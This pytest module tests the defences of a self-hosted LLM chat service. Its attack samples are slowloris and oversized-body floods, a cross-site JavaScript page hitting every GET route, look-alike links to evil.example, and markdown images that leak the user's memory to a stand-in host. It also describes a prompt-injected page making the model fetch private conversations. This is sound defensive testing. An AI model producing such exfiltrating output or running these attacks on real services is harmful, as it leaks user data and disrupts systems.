"""What one malformed request, another web page or a network neighbour can make the
service do (issue 23): each attack is tried for real and must be refused or absorbed."""

from __future__ import annotations

import asyncio
import html as html_lib
import json
import os
import re
import socket
import statistics
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from markdown_it import MarkdownIt
from starlette.middleware import Middleware

from app.api.access import FAILURES_ALLOWED, MAX_BODY_BYTES
from app.pages.errors import FetchFailed
from app.pages.fetch import Page, fetch_page
from app.pages.worker import ExtractionProcess
from app.search.embedded import free_port
from tests.browser import opened, page_server
from tests.chat_client import new_conversation, raw_request, send
from tests.conftest import ROOT, TLS, ChatService, chat_env, run_cli, service_for
from tests.fakes.llm_server import Reply
from tests.fakes.pages import ARTICLE, ARTICLE_TITLE
from tests.serving import Served, serve

JSON = {"content-type": "application/json"}
HEALTH_BUDGET_SECONDS = 0.05
INTERACTIVE_SECONDS = 0.2


@pytest.fixture
def served(llm, pages, searxng, tmp_path) -> Iterator[Served]:
    llm.clear()
    env = chat_env(llm, tmp_path, pages, SEARXNG_URL=searxng.url, LOOP_LAG_PROBE="1")
    with serve(env) as service:
        yield service


# -- one request must not freeze the service ---------------------------------------------------


def worst_bodies() -> list[bytes]:
    """4 MiB each: an unclosed string of escaped quotes (the old check retried from every
    quote, quadratic: hours), and two million empty lists just under the depth limit (the
    parser would build them all on the event loop)."""
    opening = b'{"text": "'
    quotes = opening + b'\\"' * ((MAX_BODY_BYTES - len(opening)) // 2)
    lists = b"[" * 15 + b"[]" * ((MAX_BODY_BYTES - 15) // 2)
    return [quotes, lists, quotes]


def health(url: str) -> tuple[float, float]:
    """How long /healthz took to answer, and the longest the service's event loop was held
    since the last call, its waits for a core taken out (LOOP_LAG_PROBE), in seconds."""
    started = time.perf_counter()
    answer = httpx.get(f"{url}/healthz", timeout=5, verify=TLS)
    took = time.perf_counter() - started
    assert answer.status_code == 200
    return took, answer.json()["loop_lag_own_ms"] / 1000


def test_a_4_mib_body_built_against_the_depth_check_does_not_hold_the_loop(served):
    before = [health(served.url)[0] for _ in range(5)]
    answers: list[int] = []

    def send_all() -> None:
        for body in worst_bodies():
            response = httpx.put(
                f"{served.url}/api/memory", content=body, headers=JSON, timeout=60, verify=TLS
            )
            answers.append(response.status_code)

    sender = threading.Thread(target=send_all)
    started = time.monotonic()
    sender.start()
    during: list[float] = []
    held: list[float] = []
    while sender.is_alive() or len(during) < 5:
        took, own = health(served.url)
        during.append(took)
        held.append(own)
    sender.join()
    took = time.monotonic() - started
    # Refused (the string never closes; the lists are too many), within seconds: the old
    # check would have taken hours over the first.
    assert answers == [422, 422, 422] and took < 30
    # /healthz answered all along: the service's loop was held under 50 ms (the probe
    # counts no wait for a core), and each answer came within seconds (the old check: not
    # one for hours; a machine busy with other work has made one wait over a second). End
    # to end, within a fifth of a second, or on a loaded machine (the bodies' CPU, and the
    # SearXNG probe /healthz makes, wait for a core too) a few times what it took before:
    # the loop takes the GIL back from the check's thread at each step of an answer (up to
    # 5 ms each, Python's switch interval), so 30 to 65 ms is usual on a busy two-core run,
    # where the answers before the bodies took 10 ms.
    allowed = max(INTERACTIVE_SECONDS, 5 * statistics.median(before))
    assert statistics.median(during) < allowed, (during, before)
    assert max(during) < 5.0, during
    assert statistics.median(held) < HEALTH_BUDGET_SECONDS, held


HALF_OPEN = b"GET /api/conversations HTTP/1.1\r\nHost: 127.0.0.1\r\n"  # never finished


def closed_by_the_service(sock: socket.socket) -> bool:
    """Whether the service closed this socket (it waits for it at most its own timeout)."""
    try:
        return sock.recv(1024) == b""
    except ConnectionResetError:
        return True
    except TimeoutError:
        return False


def test_half_open_sockets_are_closed_and_the_owner_is_served(llm, tmp_path):
    """Slowloris: 300 sockets from a client without the token that never finish their
    headers, over a limit of 100 connections. The owner's request is answered; the
    sockets beyond the limit are closed at once, the others after the header timeout,
    each kind said in the log."""
    token = "slow-" + "7f3a9c2e" * 5
    env = chat_env(
        llm,
        tmp_path,
        AUTH_TOKEN=token,
        SEARXNG_URL="http://127.0.0.1:9",  # nothing here needs a search
        HEADER_TIMEOUT="2",
        MAX_CONNECTIONS="100",
    )
    with serve(env) as served:
        port = int(served.url.rsplit(":", 1)[1])
        sockets = [socket.create_connection(("127.0.0.1", port), timeout=5) for _ in range(300)]
        try:
            for sock in sockets:
                sock.sendall(HALF_OPEN)
            owner = {"Authorization": f"Bearer {token}"}
            answer = httpx.get(
                f"{served.url}/api/conversations", headers=owner, timeout=5, verify=TLS
            )
            assert answer.status_code == 200
            for sock in sockets:
                sock.settimeout(2 + 5)
            assert all(closed_by_the_service(sock) for sock in sockets)
        finally:
            for sock in sockets:
                sock.close()
        log = served.output()
        assert "made room for a new connection (100, MAX_CONNECTIONS)" in log
        assert "its request's headers did not come within 2 s" in log


@pytest.mark.socket  # the body's deadline lives on the connection
def test_a_trickled_body_is_answered_408_and_closed(request, llm, searxng, tmp_path, caplog):
    env = chat_env(llm, tmp_path, BODY_TIMEOUT="2")
    with service_for(request, env, searxng.url) as chat:
        port = int(chat.url.rsplit(":", 1)[1])
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            sock.sendall(
                b"POST /api/conversations HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                b'Content-Type: application/json\r\nContent-Length: 100\r\n\r\n{"title"'
            )
            answer = sock.recv(1024)
            assert answer.startswith(b"HTTP/1.1 408 Request Timeout\r\n"), answer
            assert closed_by_the_service(sock)
        # A body that comes whole is served as ever.
        assert chat.http.post("/api/conversations", json={}).status_code in (200, 201)
    assert "its request's body did not come within 2 s" in caplog.text


# -- other web pages get nothing run -----------------------------------------------------------


NAVIGATION = {
    "Sec-Fetch-Site": "cross-site",
    "Sec-Fetch-Mode": "navigate",
    "Sec-Fetch-Dest": "document",
}


@pytest.mark.socket  # Origin and Sec-Fetch-* as a browser sends them
@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors", "Sec-Fetch-Dest": "image"},
        {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "cors", "Sec-Fetch-Dest": "empty"},
        {"Origin": "http://127.0.0.1:9"},
        {**NAVIGATION, "Sec-Fetch-Dest": "iframe"},
    ],
    ids=["img", "same-site-fetch", "origin", "frame"],
)
def test_a_get_from_another_page_is_refused_but_a_link_to_the_page_is_not(chat, headers):
    for path in ("/api/conversations?q=x", "/api/status", "/api/lab/search?q=x", "/"):
        assert chat.http.get(path, headers=headers).status_code == 403, path
    assert chat.http.get("/", headers=NAVIGATION).status_code == 200
    assert chat.http.get("/api/conversations", headers=NAVIGATION).status_code == 403


def test_every_answer_forbids_embedding_and_sniffing(chat, llm):
    llm.script(Reply("Hi."))
    conversation = chat.http.post("/api/conversations", json={}).json()["id"]
    answers = [
        chat.http.get("/"),
        chat.http.get("/static/js/main.js"),
        chat.http.get("/api/conversations"),
        chat.http.get("/api/nothing-here"),
        chat.http.get("/api/memory", headers={"Origin": "http://evil.example"}),
        chat.http.get("/api/memory", headers={"Host": "rebound.example"}),
        chat.http.get("/healthz"),
        chat.http.post(f"/api/conversations/{conversation}/chat", json={"message": "hi"}),
    ]
    for answer in answers:
        assert answer.headers.get_list("cross-origin-resource-policy") == ["same-origin"], answer
        assert answer.headers.get_list("x-content-type-options") == ["nosniff"], answer


SAMPLE_PARAMETERS = {
    "conversation_id": "20260101-abcdef",
    "model": "fake-model",
    "person_id": 2,
}


class Reached:
    """Counts the requests that get past the access check to the routes (installed inside
    it, as the innermost middleware): what a handler would have run for."""

    def __init__(self, app, seen: list[str]) -> None:
        self.app = app
        self.seen = seen

    async def __call__(self, scope, receive, send) -> None:
        if scope["type"] == "http":
            self.seen.append(f"{scope['method']} {scope['path']}")
        await self.app(scope, receive, send)


@pytest.fixture
def counted(llm, pages, searxng, brave, tmp_path) -> Iterator[tuple[ChatService, list[str]]]:
    llm.clear()
    service = ChatService(chat_env(llm, tmp_path, pages), searxng.url)
    seen: list[str] = []
    service.app.user_middleware.append(Middleware(Reached, seen=seen))
    service.start()
    yield service, seen
    service.stop()


def get_routes(service: ChatService) -> list[str]:
    """Every GET address the service serves, from its own schema, with sample parameters
    and the costly queries (a search, a measure over eight locales, a conversation search),
    plus the page and one of its scripts."""
    queries = {
        "/api/lab/search": "?q=x",
        "/api/lab/measure": "?q=x&locales=all,pl,de,fr,es,it,nl,sv&top=50",
        "/api/conversations": "?q=secret",
        "/api/status": "",
    }
    routes = ["/", "/static/js/main.js"]
    for path, operations in service.app.openapi()["paths"].items():
        if "get" in operations:
            routes.append(path.format(**SAMPLE_PARAMETERS) + queries.get(path, ""))
    return routes


LOADS = """
<a id="go" href="{target}/">the chat</a>
<script>
const target = {target!r};
const routes = {routes};
const loads = [];
function attack() {{
  for (const route of routes) {{
    const url = target + route;
    for (const tag of ["img", "script", "link", "iframe"]) {{
      const element = document.createElement(tag);
      loads.push(new Promise((done) => {{
        element.onload = element.onerror = done;
        setTimeout(done, 5000);  // a frame refused by its policy may never say
      }}));
      if (tag === "link") {{ element.rel = "stylesheet"; element.href = url; }}
      else {{ element.src = url; }}
      document.body.append(element);
    }}
    loads.push(fetch(url, {{mode: "no-cors"}}).catch(() => {{}}));
    loads.push(fetch(url).catch(() => {{}}));  // a CORS GET: sends Origin
  }}
  Promise.all(loads).then(() => {{ document.title = "done"; }});
}}
addEventListener("load", attack);  // once this page has loaded, so that opening it is quick
</script>
"""


def test_another_page_gets_no_get_route_to_run_and_can_still_link_the_page(browser, counted):
    service, seen = counted
    page = LOADS.format(target=service.url, routes=json.dumps(get_routes(service))).encode()
    with page_server(page) as attacker:
        with opened(browser, attacker, ready=False) as tab:
            tab.wait_for_function("document.title === 'done'", timeout=60_000)
            assert seen == []  # refused before any route: no search, no model request
            statuses = {status for _, url, status in tab.log.responses if service.url in url}
            assert statuses == {403}
            attacks = len(tab.log.responses)
            tab.click("#go")  # a link to the page, from another site: the page loads
            tab.wait_for_selector("body[data-ready]", state="attached")
            assert "GET /api/config" in seen  # the page's own calls are same-origin
            own = [(url, status) for _, url, status in tab.log.responses[attacks:]]
            assert own and all(status < 400 for _, status in own), own


# -- beyond loopback, never without a token ----------------------------------------------------


@pytest.mark.long  # three starts of `serve`
def test_under_compose_without_a_token_one_is_made_kept_and_required(llm, searxng, tmp_path):
    llm.clear()
    env = chat_env(llm, tmp_path, SEARXNG_URL=searxng.url, PUBLISHED_ON_LOOPBACK="1")
    data = Path(env["DATA_DIR"])
    with serve(env, host="0.0.0.0") as first:
        token = (data / "access-token").read_text().strip()
        assert token in first.output()  # shown once, at first start
        assert httpx.get(f"{first.url}/api/config", verify=TLS).status_code == 401
        assert httpx.get(f"{first.url}/api/conversations?q=x", verify=TLS).status_code == 401
        mine = {"Authorization": f"Bearer {token}"}
        assert httpx.get(f"{first.url}/api/config", headers=mine, verify=TLS).status_code == 200
        with httpx.Client(base_url=first.url, verify=TLS) as page:  # the page's sign-in takes it
            assert page.get("/api/session").json() == {"auth": True, "signed_in": False}
            assert page.post("/api/session", json={"token": token}).status_code == 200
            assert page.get("/api/memory").status_code == 200
    assert (data / "access-token").stat().st_mode & 0o777 == 0o600
    with serve(env, host="0.0.0.0") as again:
        assert token not in again.output()  # kept, and not shown again
        assert httpx.get(f"{again.url}/api/config", verify=TLS).status_code == 401
        mine = {"Authorization": f"Bearer {token}"}
        assert httpx.get(f"{again.url}/api/config", headers=mine, verify=TLS).status_code == 200
    doctor = subprocess.run(
        [sys.executable, "-m", "app", "doctor"],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env=env,
        timeout=120,
    )
    assert f"access token: {token}" in doctor.stdout


def test_an_empty_token_file_is_refused_rather_than_served_without_a_token(tmp_path):
    """What a full disk leaves (or, before the token was linked into place whole, a replica
    starting beside another on the same volume read): the service would have served with
    no token at all."""
    data = tmp_path / "data"
    data.mkdir(mode=0o700)
    (data / "access-token").write_text("")
    run = subprocess.run(
        [sys.executable, "-m", "app", "serve", "--host", "0.0.0.0", "--port", str(free_port())],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={
            **os.environ,
            "SEARXNG_URL": "http://127.0.0.1:9",
            "DATA_DIR": str(data),
            "PUBLISHED_ON_LOOPBACK": "1",
            "AUTH_TOKEN": "",
        },
        timeout=60,  # the old code served on
    )
    assert run.returncode == 1
    assert "access-token is empty: delete it" in run.stderr


# -- the token's smaller holes -----------------------------------------------------------------

TOKEN = "f3a9c1e5b2d8046a1c3e5f7b9d0e2a4c"  # 128 bits in hex


def test_a_forwarded_address_does_not_reset_the_login_limit(llm, searxng, tmp_path):
    """A local process that rotates X-Forwarded-For still counts as one client, and the
    owner's right token still works while that client is made to wait."""
    llm.clear()
    env = chat_env(llm, tmp_path, SEARXNG_URL=searxng.url, AUTH_TOKEN=TOKEN)
    with serve(env) as service:
        statuses = [
            httpx.get(
                f"{service.url}/api/config",
                headers={"Authorization": "Bearer wrong", "X-Forwarded-For": f"10.0.0.{n}"},
                verify=TLS,
            ).status_code
            for n in range(FAILURES_ALLOWED + 2)
        ]
        assert statuses == [401] * FAILURES_ALLOWED + [429, 429]
        right = {"Authorization": f"Bearer {TOKEN}"}
        assert httpx.get(f"{service.url}/api/config", headers=right, verify=TLS).status_code == 200
        login = httpx.post(f"{service.url}/api/session", json={"token": TOKEN}, verify=TLS)
        assert login.status_code == 200 and "session=" in login.headers["set-cookie"]


@pytest.mark.parametrize(
    "cookie", ["1.é".encode(), b"\xb29999999999.x", b"9999999999.\xff", b"."], ids=repr
)
def test_a_strange_session_cookie_is_refused_not_a_crash(llm, pages, searxng, tmp_path, cookie):
    llm.clear()
    service = ChatService(chat_env(llm, tmp_path, pages, AUTH_TOKEN=TOKEN), searxng.url).start()
    try:
        header = b"Cookie: session=" + cookie
        assert raw_request(service.url, "/api/config", header) == 401
        assert raw_request(service.url, "/api/session", header) == 200
    finally:
        service.stop()


@pytest.mark.parametrize("token", ["s3cret", "0123456789abcdef0123", "hunter2hunter2hunter2"])
def test_a_guessable_token_is_refused_at_start(token):
    run = run_cli("serve", searxng_url="http://127.0.0.1:9", AUTH_TOKEN=token)
    assert run.returncode == 1
    assert "AUTH_TOKEN" in run.stderr and "128" in run.stderr and "token_urlsafe" in run.stderr


def test_the_data_directory_and_database_are_private_whatever_the_umask(llm, searxng, tmp_path):
    """Made by a service started under umask 000: only their owner may read them."""
    llm.clear()
    data = tmp_path / "open" / "data"
    old = os.umask(0)
    try:
        service = ChatService(chat_env(llm, tmp_path, DATA_DIR=str(data)), searxng.url)
    finally:
        os.umask(old)
    service.start().stop()
    assert data.stat().st_mode & 0o777 == 0o700
    assert (data / "chat.db").stat().st_mode & 0o777 == 0o600


@pytest.mark.parametrize("entry", ["127.0.0.1:{port}", "localhost:{port}", "[::1]:{port}"])
def test_the_fetcher_may_not_be_allowed_to_reach_the_service_itself(entry):
    """Else a page could have the model web_fetch /api/conversations and quote it."""
    port = free_port()
    run = subprocess.run(
        [sys.executable, "-m", "app", "serve", "--host", "0.0.0.0", "--port", str(port)],
        capture_output=True,
        text=True,
        cwd=ROOT,
        env={
            **os.environ,
            "SEARXNG_URL": "http://127.0.0.1:9",
            "AUTH_TOKEN": TOKEN,
            "FETCH_ALLOW_HOSTS": entry.format(port=port),
        },
        timeout=60,  # the old code served on
    )
    assert run.returncode == 1
    assert "FETCH_ALLOW_HOSTS names this service itself" in run.stderr


# -- one slow page must not hold every conversation's pages --------------------------------------


def test_a_page_slow_to_extract_is_stopped_and_the_next_page_is_read(pages):
    """Extraction has one worker for every conversation: a page built to be slow (this one
    takes minutes) is stopped at the deadline, and the page queued behind it is read by a
    new worker."""
    slow = ARTICLE.replace("</article>", "<p>Pierogi z kapustą. </p>" * 150_000 + "</article>")

    async def scenario() -> tuple[str, Page, int, int]:
        extraction = ExtractionProcess(deadline=2.0)
        try:
            await extraction(ARTICLE.encode(), "http://x/", "utf-8")  # the worker is up
            assert extraction.worker is not None
            first = extraction.worker.pid
            held = asyncio.ensure_future(extraction(slow.encode(), "http://x/", "utf-8"))
            await asyncio.sleep(0.1)  # its turn first
            page = await fetch_page(
                pages.url + "/article", allow_hosts=frozenset({pages.host}), extract=extraction
            )
            with pytest.raises(FetchFailed) as stopped:
                await held
            assert extraction.worker is not None
            second = extraction.worker.pid
            return str(stopped.value), page, first, second
        finally:
            extraction.close()

    # In a thread of its own: this module's browser keeps an event loop running in this one.
    with ThreadPoolExecutor(max_workers=1) as thread:
        stopped, page, first, second = thread.submit(asyncio.run, scenario()).result()
    assert "took over 2 s: stopped" in stopped
    assert page.title == ARTICLE_TITLE
    assert first != second  # the slow page's worker was killed, a new one read the next


# -- a link must go where it says ----------------------------------------------------------------


# A link's text that a reader takes for one host while the link goes to another: the page
# and the export both show such a link's target instead. (text, target, what is shown)
DISGUISED_LINKS = [
    ("paypal.com\u200b", "https://evil.example/a", "https://evil.example/a"),  # zero-width space
    ("pay\u00adpal.com", "https://evil.example/b", "https://evil.example/b"),  # soft hyphen
    ("bank.example.", "https://evil.example/c", "https://evil.example/c"),  # trailing dot
    ("paypal\u3002com", "https://evil.example/d", "https://evil.example/d"),  # ideographic dot
    ("p\u0430ypal.com", "https://paypal.com/e", "https://paypal.com/e"),  # a Cyrillic a
    # The same host, however it is written, keeps its text.
    ("BANK.example.", "https://bank.example/f", "BANK.example."),
    ("b\u00fccher.example", "https://xn--bcher-kva.example/g", "b\u00fccher.example"),
    ("www.bank.example", "https://bank.example/h", "www.bank.example"),
]
DISGUISED_MARKDOWN = " ".join(f"[{text}]({target})" for text, target, _ in DISGUISED_LINKS)
SHOWN_LINKS = [[shown, target] for _, target, shown in DISGUISED_LINKS]


def test_the_page_shows_the_real_target_of_a_link_named_after_another_address(page):
    page.evaluate(
        """async (disguised) => {
          const m = await import('/static/js/markdown.js');
          const c = document.createElement('div');
          c.id = 'links';
          c.append(m.renderMarkdown(
            '[https://bank.example/login](https://evil.example/x?d=1) ' +
            '[www.bank.example](https://evil.example/) [the docs](https://evil.example/) ' +
            '[bank.example/a](https://www.bank.example/b) ![](https://evil.example/p.png?d=1) ' +
            disguised));
          document.body.append(c);
        }""",
        DISGUISED_MARKDOWN,
    )
    links = page.evaluate(
        "[...document.querySelectorAll('#links a')].map((a) => [a.textContent, a.href])"
    )
    assert links == [
        ["https://evil.example/x?d=1", "https://evil.example/x?d=1"],
        ["https://evil.example/", "https://evil.example/"],
        ["the docs", "https://evil.example/"],  # a text that names no address stays
        ["bank.example/a", "https://www.bank.example/b"],  # the same host stays
        *SHOWN_LINKS,
    ]
    assert page.evaluate("document.querySelectorAll('#links img').length") == 0


HOSTILE_ANSWER = (
    "Done ![](https://a.example/p.png?d=the-users-memory) and ![x][r] and"
    ' <img src="https://a.example/q.png?d=1"> and [https://bank.example/login](https://a.example/x)'
    " and [the docs](https://docs.example/) and `![kept as code](x)`.\n\n"
    "[r]: https://a.example/r.png?d=2\n"
)


def test_the_export_loads_nothing_and_its_links_go_where_they_say(chat, llm):
    """Rendered by a CommonMark viewer, the export of a hostile answer has no image, no
    HTML, and no link whose text names another address than its target."""
    llm.script(Reply(text=HOSTILE_ANSWER))
    conversation = new_conversation(chat)
    send(chat, conversation, "hi ![](https://a.example/u.png)")
    exported = chat.http.get(f"/api/conversations/{conversation}/export").text
    html = MarkdownIt("commonmark").render(exported)
    assert "<img" not in html
    assert "&lt;img" in html  # shown as text
    assert "<code>![kept as code](x)</code>" in html
    links = re.findall(r'<a href="([^"]*)">(.*?)</a>', html)
    assert ("https://docs.example/", "the docs") in links
    for target, text in links:
        if text.startswith("http"):
            assert urlsplit(html_lib.unescape(text)).hostname == urlsplit(target).hostname


# Markdown that hides an image from a defuser that reads it otherwise than a viewer does.
HIDDEN_IMAGES = {
    # The escape of "![" doubles the backslash the model wrote: \\![x](...) is an image.
    "escaped bang": "A \\![x](https://a.example/?d=S) B",
    # Escaped backticks open no code span: the image between them is one.
    "escaped backticks": "\\`![x](https://a.example/?d=S)\\`",
    # A backtick in a backtick fence's info string makes it no fence: the lines after it are
    # ordinary Markdown.
    "not a fence": "``` a`b\n![x](https://a.example/?d=S)\n",
    # A GFM table splits its cells before their code spans: a CommonMark reading sees one
    # code span where a GitHub-like viewer sees an image in the middle cell.
    "table cell": "| `a | ![x](https://a.example/?d=S) | b` |\n|---|---|---|\n| c | d | e |\n",
    # A "<", then an escaped one: written back, the second must stay escaped.
    "two less-thans": '<\\<img src="https://a.example/?d=S">',
    "html block": '<div>\n<img src="https://a.example/?d=S">\n</div>\n\nafter',
    "inline image": "Done ![](https://a.example/p.png?d=S)",
    "reference image": "![x][r]\n\n[r]: https://a.example/r.png?d=S\n",
    "html image": 'and <img src="https://a.example/q.png?d=S"> too',
    "image in a link": "[![x](https://a.example/p.png?d=S)](https://docs.example/)",
}
VIEWERS = {
    "CommonMark": MarkdownIt("commonmark"),
    "with tables": MarkdownIt("commonmark").enable("table"),
}


@pytest.mark.parametrize("hidden", HIDDEN_IMAGES.values(), ids=HIDDEN_IMAGES.keys())
def test_the_export_loads_no_image_wherever_the_markdown_hides_it(chat, llm, hidden):
    """In the answer and in your message (which may quote a page): neither a CommonMark
    viewer nor one that knows GFM's tables loads an image."""
    llm.script(Reply(text=hidden))
    conversation = new_conversation(chat)
    send(chat, conversation, hidden)
    exported = chat.http.get(f"/api/conversations/{conversation}/export").text
    for viewer in VIEWERS.values():
        html = viewer.render(exported)
        assert "<img" not in html


def test_what_is_too_long_to_render_is_exported_as_written(chat, llm):
    """Past 64 KB a message is exported as a code block, and a paragraph of over 1,000
    inline elements as its text (each costs mdformat a search of the others): shown as
    written, the image in them never loaded."""
    image = "![x](https://a.example/?d=S)"
    long_message = f"{image} " + "word " * 14_000
    many_elements = "*a*" * 600 + f" {image}"
    llm.script(Reply(text=many_elements))
    conversation = new_conversation(chat)
    send(chat, conversation, long_message)
    exported = chat.http.get(f"/api/conversations/{conversation}/export").text
    html = VIEWERS["CommonMark"].render(exported)
    assert "<img" not in html
    assert f"<pre><code>{image} word word" in html
    assert "<p>" + "*a*" * 600 + f" {image}</p>" in html


ORDINARY = """## Pierogi

Boil **1 kg** of potatoes, then *mash* them ([the recipe](https://recipes.example/pierogi)).

1. Knead the dough.
2. Fill it:
   - potatoes and cheese
   - onions

```python
print("![not an image](x) <b>")
```

| step | minutes |
|:-----|--------:|
| boil | 20 |
| fry | 5 `and a bit` |

> Serve hot, see <https://recipes.example/> or mail <cook@recipes.example>.

---

The end\
of the answer."""


def test_ordinary_markdown_survives_the_export(chat, llm):
    """Headings, emphasis, links, lists, code blocks, tables, quotes: a viewer shows the
    exported answer as it shows the answer itself."""
    llm.script(Reply(text=ORDINARY))
    conversation = new_conversation(chat)
    send(chat, conversation, "How do I make pierogi?")
    exported = chat.http.get(f"/api/conversations/{conversation}/export").text
    viewer = VIEWERS["with tables"]
    answer = exported.split("## Assistant", 1)[1].split("\n", 1)[1]
    assert viewer.render(answer).split() == viewer.render(ORDINARY).split()


def test_the_export_shows_the_target_of_a_link_disguised_as_another_host(chat_on_backend, llm):
    """The same rule as the page's: a text a reader takes for another host than the link's
    (a zero-width space, a trailing dot, a look-alike letter) shows the link's target."""
    llm.script(Reply(text=DISGUISED_MARKDOWN))
    conversation = new_conversation(chat_on_backend)
    send(chat_on_backend, conversation, "hi")
    exported = chat_on_backend.http.get(f"/api/conversations/{conversation}/export").text
    html = VIEWERS["CommonMark"].render(exported.split("## Assistant", 1)[1])
    links = [
        [html_lib.unescape(text), html_lib.unescape(target)]
        for target, text in re.findall(r'<a href="([^"]*)">(.*?)</a>', html)
    ]
    assert links == SHOWN_LINKS


def test_the_settings_template_never_suggests_opening_the_model_server_to_the_lan():
    """An Ollama on 0.0.0.0 answers anyone on the network, with no password."""
    template = (ROOT / ".env.example").read_text()
    assert "OLLAMA_HOST=0.0.0.0" not in template and "--host 0.0.0.0" not in template
    assert "OLLAMA_HOST=172.17.0.1" in template
